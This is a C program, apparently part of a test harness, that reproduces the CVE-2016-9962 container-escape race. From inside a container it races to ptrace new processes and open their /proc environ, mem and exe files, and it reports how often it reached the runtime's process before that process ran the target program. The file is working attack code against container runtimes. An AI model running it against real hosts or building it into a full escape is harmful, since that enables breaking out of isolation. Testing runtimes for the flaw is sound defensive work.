/* race: the CVE-2016-9962 attacker, run inside a container.
 *
 * It watches its pid namespace for new processes (kernel.ns_last_pid) and,
 * for each one, tries as fast as it can to PTRACE_ATTACH it and to open its
 * /proc/PID/environ, /proc/PID/mem and /proc/PID/exe, until the process runs
 * PROGRAM (then the container may reach it: it is an ordinary process of
 * its own) or is gone. An access counts as a hit when it reached the process
 * before it ran PROGRAM: right after the access, the process's exe is
 * something else (the runtime, its exec stub) or has become closed to us
 * (it was open during the runtime's last steps only).
 *
 *   race PROGRAM STOPFILE REPORT [PID...]
 *
 * The PIDs given are watched too (a container's init, before it starts).
 * REPORT says "started" once it watches; when STOPFILE exists it gets one
 * line of counts, "tries N pids N reached N hits N" (reached: processes it
 * got into once they ran PROGRAM, the proof that it could reach any), and
 * a line per hit ("hit PID HOW EXE"). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_ACTIVE 64
#define MAX_HITS 64

static const char *program;
static unsigned long tries, pids, reached, nhits;
static char hits[MAX_HITS][160];

static long last_pid(void)
{
	char buf[32] = {0};
	int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	return n > 0 ? strtol(buf, NULL, 10) : -1;
}

static void hit(long pid, const char *how, const char *exe)
{
	if (nhits < MAX_HITS)
		snprintf(hits[nhits], sizeof(hits[nhits]), "hit %ld %s %s", pid, how, exe);
	nhits++;
}

/* 1: the process runs PROGRAM or is gone (stop watching it), 0: not yet. */
static int judge(long pid, const char *how, int fd_exe)
{
	char path[64], link[128];
	ssize_t n;
	if (fd_exe >= 0)
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd_exe);
	else
		snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
	n = readlink(path, link, sizeof(link) - 1);
	if (n < 0) {
		if (errno == EACCES || errno == EPERM) {
			hit(pid, how, "(closed right after)");
			return 0;
		}
		return 1;
	}
	link[n] = '\0';
	if (strcmp(link, program) == 0) {
		reached++;
		return 1;
	}
	hit(pid, how, link);
	return 0;
}

static int try_open(long pid, const char *file)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%ld/%s", pid, file);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return errno == ENOENT || errno == ESRCH ? -2 : -1;
	return fd;
}

struct target {
	long pid;
	unsigned long misses; /* ENOENT before it showed: pid allocated, task not yet */
	int alive;
};

/* One round of attacks on t; 1 when it needs no more. */
static int attack(struct target *t)
{
	static const char *const files[] = {"environ", "mem", "exe"};
	long pid = t->pid;
	tries++;
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		int fd = try_open(pid, files[i]);
		if (fd == -2)
			return t->alive || ++t->misses > 100000;
		t->alive = 1;
		if (fd < 0)
			continue;
		int done = judge(pid, files[i], i == 2 ? fd : -1);
		close(fd);
		if (done)
			return 1;
	}
	/* PTRACE_SEIZE attaches as PTRACE_ATTACH does, without a SIGSTOP that
	 * could outlive the detach and leave the process stopped. */
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		int done = judge(pid, "ptrace", -1);
		int st;
		if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &st, __WALL) == pid &&
		    WIFSTOPPED(st))
			ptrace(PTRACE_DETACH, pid, 0, 0);
		return done;
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 4) {
		fprintf(stderr, "usage: race PROGRAM STOPFILE REPORT [PID...]\n");
		return 2;
	}
	program = argv[1];
	struct target active[MAX_ACTIVE];
	size_t nactive = 0;
	for (int i = 4; i < argc && nactive < MAX_ACTIVE; i++, pids++)
		active[nactive++] = (struct target){.pid = strtol(argv[i], NULL, 10), .alive = 1};
	long seen = getpid();
	FILE *f = fopen(argv[3], "w");
	if (!f || fputs("started\n", f) < 0 || fclose(f) != 0)
		return 1;
	for (unsigned long round = 0;; round++) {
		if ((round & 255) == 0 && access(argv[2], F_OK) == 0)
			break;
		long last = last_pid();
		for (; seen < last; seen++) {
			if (seen + 1 == getpid() || nactive == MAX_ACTIVE)
				continue;
			active[nactive++] = (struct target){.pid = seen + 1};
			pids++;
		}
		for (size_t i = 0; i < nactive;) {
			if (attack(&active[i]))
				active[i] = active[--nactive];
			else
				i++;
		}
	}
	if (!(f = fopen(argv[3], "w")))
		return 1;
	fprintf(f, "tries %lu pids %lu reached %lu hits %lu\n", tries, pids, reached, nhits);
	for (unsigned long i = 0; i < nhits && i < MAX_HITS; i++)
		fprintf(f, "%s\n", hits[i]);
	return fclose(f) == 0 ? 0 : 1;
}
